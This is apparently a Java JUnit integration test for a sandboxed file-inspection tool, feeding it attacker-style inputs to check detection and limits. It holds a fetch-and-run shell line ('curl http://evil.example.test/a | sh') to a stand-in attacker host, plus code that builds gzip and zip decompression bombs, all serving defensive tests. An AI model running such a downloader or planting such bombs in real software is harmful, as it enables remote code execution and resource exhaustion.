package dev.serai.kamelet.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** The sandbox's own tool, run as it runs in an action, on inputs of an attacker. */
class InspectIT {

    private static final String IMAGE = System.getenv("SERAI_SANDBOX_IMAGE");
    private static final String DOWNLOADER = "#!/bin/sh\ncurl http://evil.example.test/a | sh\n";

    @BeforeAll
    static void image() {
        Assumptions.assumeTrue(IMAGE != null, "skipped: SERAI_SANDBOX_IMAGE is not set (sandbox/build prints it)");
    }

    private static JsonNode inspect(byte[] input) throws Exception {
        Process process = new ProcessBuilder(
                        "docker",
                        "run",
                        "--rm",
                        "-i",
                        "--network=none",
                        "--read-only",
                        "--cap-drop=ALL",
                        "--security-opt=no-new-privileges",
                        "--security-opt=seccomp=src/main/resources/dev/serai/kamelet/sandbox/seccomp.json",
                        "--memory=256m",
                        IMAGE,
                        "/usr/bin/python3",
                        "-I",
                        "/opt/serai/inspect.py")
                .redirectError(ProcessBuilder.Redirect.DISCARD)
                .start();
        try (OutputStream stdin = process.getOutputStream()) {
            stdin.write(input);
        } catch (IOException e) {
            // It reads no more than it looks at.
        }
        byte[] output = process.getInputStream().readAllBytes();
        assertThat(process.waitFor(40, TimeUnit.SECONDS)).isTrue();
        assertThat(process.exitValue()).isZero();
        return new ObjectMapper().readTree(output);
    }

    private static byte[] gzip(byte[] input) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
            gzip.write(input);
        }
        return out.toByteArray();
    }

    private static byte[] base64(byte[] input) {
        return Base64.getEncoder().encode(input);
    }

    @Test
    void an_encoded_downloader_is_found_in_its_layer() throws Exception {
        byte[] script = DOWNLOADER.getBytes(StandardCharsets.UTF_8);
        JsonNode report =
                inspect(("echo " + new String(base64(gzip(script)), StandardCharsets.US_ASCII) + " | base64 -d")
                        .getBytes(StandardCharsets.UTF_8));
        assertThat(report.path("layers").findValuesAsText("encoding")).containsExactly("base64", "gzip");
        assertThat(report.path("indicators").findValuesAsText("value")).contains("http://evil.example.test/a");
        assertThat(report.path("findings").toString()).contains("ENCODED_LAYERS", "SCRIPT", "DOWNLOADER");
    }

    @Test
    void a_bomb_is_cut_and_says_so() throws Exception {
        JsonNode gzip = inspect(gzip(new byte[200_000_000]));
        assertThat(gzip.path("limits").toString()).contains("LAYER_BYTES");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (int number = 0; number < 100; number++) {
                zip.putNextEntry(new ZipEntry("f" + number));
                zip.write(new byte[3_000_000 + number]);
            }
        }
        assertThat(inspect(out.toByteArray()).path("limits").toString()).contains("LAYER_BYTES");
    }

    @Test
    void nesting_without_end_is_cut_at_a_depth() throws Exception {
        byte[] content = DOWNLOADER.getBytes(StandardCharsets.UTF_8);
        for (int times = 0; times < 20; times++) {
            content = base64(gzip(content));
        }
        JsonNode report = inspect(content);
        assertThat(report.path("limits").toString()).contains("DEPTH");
        assertThat(report.path("findings").toString()).contains("NESTED_DEEP");
    }

    @Test
    void noise_nothing_and_too_much_are_described_and_break_nothing() throws Exception {
        byte[] noise = new byte[2 * 1024 * 1024];
        new Random(7).nextBytes(noise);
        JsonNode report = inspect(noise);
        assertThat(report.path("findings").toString()).contains("HIGH_ENTROPY");
        assertThat(report.path("input_truncated").asBoolean()).isTrue();
        JsonNode empty = inspect(new byte[0]);
        assertThat(empty.path("type").asText()).isEqualTo("empty");
        assertThat(empty.path("entropy").asDouble()).isZero();
        assertThat(empty.path("sha256").asText())
                .isEqualTo("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    }
}
